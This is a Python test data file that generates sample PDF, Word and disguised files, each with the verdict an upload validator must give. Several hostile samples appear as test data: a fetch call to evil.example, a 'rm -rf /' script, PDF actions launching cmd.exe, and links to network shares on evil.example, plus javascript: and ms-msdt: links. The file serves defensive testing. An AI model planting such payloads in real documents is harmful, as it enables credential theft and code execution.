"""What is let in and what is not: (what it is, its name, how to make it, the word it must get). See hostile.py."""

import os
import zipfile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.applications.hostile import (
    OLD_LOCK,
    OLE,
    annotation,
    archive_of,
    attachment,
    docx,
    external_content,
    field,
    hidden_script,
    named_script,
    on_opening,
    on_page,
    pdf,
    relationship,
)
from tests.promises.hostile_documents import DOCUMENTS


def link(**action):
    return annotation(Subtype=Name.Link, A=Dictionary(**action))


def address(uri):
    return lambda: pdf(link(S=Name.URI, URI=String(uri)))


def in_document(**facts):
    return lambda document: [document.Root.__setitem__(f"/{key}", value) for key, value in facts.items()]


def page_of_another_file(document):
    form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=String("\\\\evil.example\\a.pdf"), Page=0)
    document.pages[0].obj.Resources.XObject = Dictionary(Fm0=form)


PDFS_AND_OTHERS = [
    # what must pass
    ("a PDF", "submission.pdf", pdf, "pdf"),
    (
        "a PDF with its objects in streams",
        "submission.pdf",
        lambda: pdf(pages=40, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf",
    ),
    ("a PDF in capitals", "SUBMISSION.PDF", pdf, "pdf"),
    ("a PDF without an ending, as phones send it", "document", pdf, "pdf"),
    ("a PDF after a line of a mail program", "submission.pdf", lambda: b"\r\n" * 9 + pdf(), "pdf"),
    (
        "a PDF with a web link",
        "links.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://example.org")))),
        "pdf",
    ),
    (
        "a PDF that opens at page one",
        "goto.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))),
        "pdf",
    ),
    ("a PDF with words after its end", "tail.pdf", lambda: pdf() + b"\n\n", "pdf"),
    ("a Word document", "submission.docx", docx, "docx"),
    (
        "a Word document with web links",
        "links.docx",
        lambda: docx(
            links=relationship("hyperlink", "https://example.org/?a=1")
            + relationship("hyperlink", "mailto:info@example.org", number=2)
        ),
        "docx",
    ),
    (
        "a Word document with a picture",
        "picture.docx",
        lambda: docx(parts=[("word/media/image1.png", b"\x89PNG" + os.urandom(5000))]),
        "docx",
    ),
    (
        "a Word document with page numbers and contents",
        "fields.docx",
        lambda: docx(
            body=field([" PAGE "]) + field([" TOC ", "\\o 1-3"]) + field([' HYPERLINK "https://example.org/DDE" '])
        ),
        "docx",
    ),
    ("a Word document stored unpacked", "stored.docx", lambda: docx(compression=zipfile.ZIP_STORED), "docx"),
    # nothing, not enough, too much
    ("nothing", "empty.pdf", lambda: b"", "empty"),
    ("half a Word document", "half.docx", lambda: docx()[:700], "unreadable"),
    ("a PDF that ends after its first line", "short.pdf", lambda: b"%PDF-1.7\n", "unreadable"),
    ("a PDF without a page", "none.pdf", lambda: pdf(pages=0), "unreadable"),
    ("noise called a PDF", "noise.pdf", lambda: b"%PDF-1.7\n" + os.urandom(50_000), "unreadable"),
    ("noise", "noise.docx", lambda: b"\x01\x02" + os.urandom(50_000), "unknown_kind"),
    ("plain words", "words.pdf", lambda: b"Dear Sir or Madam, " * 50, "unknown_kind"),
    # another kind, or another name
    ("a PDF called Word", "submission.docx", pdf, "wrong_name"),
    ("a Word document called PDF", "submission.pdf", docx, "wrong_name"),
    ("a PDF called a program", "submission.pdf.exe", pdf, "wrong_name"),
    ("a Word document called one with macros", "submission.docm", docx, "wrong_name"),
    ("an old Word document", "submission.doc", lambda: OLE + bytes(2000), "word_old"),
    ("an old Word document called new", "submission.docx", lambda: OLE + bytes(2000), "word_old"),
    ("an Apple Pages document", "submission.pages", lambda: archive_of(**{"Index/Document.iwa": "a"}), "pages"),
    ("Rich Text", "submission.rtf", lambda: b"{\\rtf1 Hello}", "rtf"),
    (
        "a web page called PDF",
        "submission.pdf",
        lambda: b"<!DOCTYPE html><script>fetch('//evil.example')</script>",
        "html",
    ),
    (
        "an SVG called PDF",
        "submission.pdf",
        lambda: b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
        "html",
    ),
    ("a Windows program called PDF", "submission.pdf", lambda: b"MZ" + os.urandom(4000), "program"),
    ("a Linux program called Word", "submission.docx", lambda: b"\x7fELF" + os.urandom(4000), "program"),
    ("a shell script", "submission.pdf", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    ("a photograph", "IMG_0001.jpg", lambda: b"\xff\xd8\xff\xe0" + os.urandom(4000), "image"),
    ("an iPhone photograph called PDF", "scan.pdf", lambda: b"\0\0\0\x18ftypheic" + os.urandom(400), "image"),
    ("an archive", "papers.zip", lambda: archive_of(**{"a.pdf": pdf()}), "archive"),
    ("another archive", "papers.rar", lambda: b"Rar!\x1a\x07\x01\0" + os.urandom(400), "archive"),
    (
        "a spreadsheet",
        "table.xlsx",
        lambda: docx(
            main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            parts=[("xl/workbook.xml", "<a/>")],
        ),
        "other_office",
    ),
    ("a PDF that is also an archive", "both.pdf", lambda: pdf() + archive_of(a="b"), "two_kinds"),
    ("a PDF behind a program's head", "both.pdf", lambda: b"MZ" + bytes(100) + pdf(), "two_kinds"),
    ("a PDF behind a web page", "both.pdf", lambda: b"<html><script>x()</script>" + pdf(), "two_kinds"),
    ("an archive behind a PDF's head", "both.docx", lambda: b"%PDF-1.7\n" + docx(), "two_kinds"),
    # PDFs that act
    (
        "a PDF with a password",
        "locked.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="a", owner="b")),
        "pdf_password",
    ),
    (
        "a PDF with restrictions only",
        "locked.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(user="", owner="b")),
        "pdf_password",
    ),
    ("a PDF locked in the old way", "locked.pdf", lambda: pdf(encryption=OLD_LOCK), "pdf_password"),
    (
        "a script on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))),
        "pdf_script",
    ),
    ("a script by name", "active.pdf", lambda: pdf(named_script), "pdf_script"),
    ("a script hidden deep inside", "active.pdf", lambda: pdf(hidden_script), "pdf_script"),
    (
        "a script in a packed object",
        "active.pdf",
        lambda: pdf(named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "pdf_script",
    ),
    (
        "a program started on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "pdf_action",
    ),
    (
        "a program started by a click",
        "active.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))),
        "pdf_action",
    ),
    (
        "an address called on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.URI, URI=String("https://evil.example")))),
        "pdf_action",
    ),
    (
        "an address called by turning a page",
        "active.pdf",
        lambda: pdf(on_page(Dictionary(S=Name.URI, URI=String("https://evil.example")))),
        "pdf_action",
    ),
    (
        "a share of the network opened on opening",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.GoToR, F=String("//evil.example/a")))),
        "pdf_action",
    ),
    (
        "a form that sends itself",
        "active.pdf",
        lambda: pdf(annotation(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")))),
        "pdf_action",
    ),
    ("content from elsewhere", "active.pdf", lambda: pdf(external_content), "pdf_action"),
    (
        "an XFA form",
        "form.pdf",
        lambda: pdf(lambda document: document.Root.__setitem__("/AcroForm", Dictionary(XFA=Array([])))),
        "pdf_form",
    ),
    ("a file inside", "carrier.pdf", lambda: pdf(attachment), "pdf_attachment"),
    (
        "a file pinned to the page",
        "carrier.pdf",
        lambda: pdf(annotation(Subtype=Name.FileAttachment, FS=Dictionary(F=String("a")))),
        "pdf_attachment",
    ),
    ("a film", "film.pdf", lambda: pdf(annotation(Subtype=Name.RichMedia)), "pdf_media"),
    # PDFs that reach out of themselves
    ("a link without http", "links.pdf", address("www.example.org/a"), "pdf"),
    ("a link to write a mail", "links.pdf", address("mailto:info@example.org"), "pdf"),
    ("an article to follow", "thread.pdf", lambda: pdf(link(S=Name.Thread, D=0)), "pdf"),
    ("a link to a share in a PDF", "links.pdf", address("file://evil.example/share"), "pdf_action"),
    ("a link to a share, in Windows’ way", "links.pdf", address("\\\\evil.example\\share"), "pdf_action"),
    ("a link to a share, half said", "links.pdf", address("//evil.example/share"), "pdf_action"),
    ("a link to a share, with gaps", "links.pdf", address(" fi\nle:///evil.example/"), "pdf_action"),
    ("a link that is a program", "links.pdf", address("javascript:app.alert(1)"), "pdf_action"),
    ("a link that starts a program of Windows", "links.pdf", address("ms-msdt:/id"), "pdf_action"),
    (
        "links that all begin at a share",
        "links.pdf",
        lambda: pdf(in_document(URI=Dictionary(Base=String("file://evil.example/")))),
        "pdf_action",
    ),
    (
        "a click to another file",
        "active.pdf",
        lambda: pdf(link(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"), D=Array([0, Name.Fit]))),
        "pdf_action",
    ),
    ("a click to a file inside", "active.pdf", lambda: pdf(link(S=Name.GoToE, T=Dictionary())), "pdf_attachment"),
    (
        "an article of another file",
        "a.pdf",
        lambda: pdf(link(S=Name.Thread, F=String("//evil.example/a"))),
        "pdf_action",
    ),
    ("a page of another file", "a.pdf", lambda: pdf(page_of_another_file), "pdf_action"),
    ("a form that fetches its answers", "a.pdf", lambda: pdf(link(S=Name.ImportData, F=String("a"))), "pdf_action"),
    (
        "a second act behind a harmless one",
        "active.pdf",
        lambda: pdf(on_opening(Dictionary(S=Name.GoTo, Next=Dictionary(S=Name.Launch)))),
        "pdf_action",
    ),
    ("a sound", "a.pdf", lambda: pdf(annotation(Subtype=Name.Sound)), "pdf_media"),
    ("a screen", "a.pdf", lambda: pdf(annotation(Subtype=Name.Screen)), "pdf_media"),
    ("a model to turn", "a.pdf", lambda: pdf(annotation(Subtype=Name("/3D"))), "pdf_media"),
    ("a film on opening", "a.pdf", lambda: pdf(on_opening(Dictionary(S=Name.Rendition))), "pdf_media"),
]

SAMPLES = [*PDFS_AND_OTHERS, *DOCUMENTS]
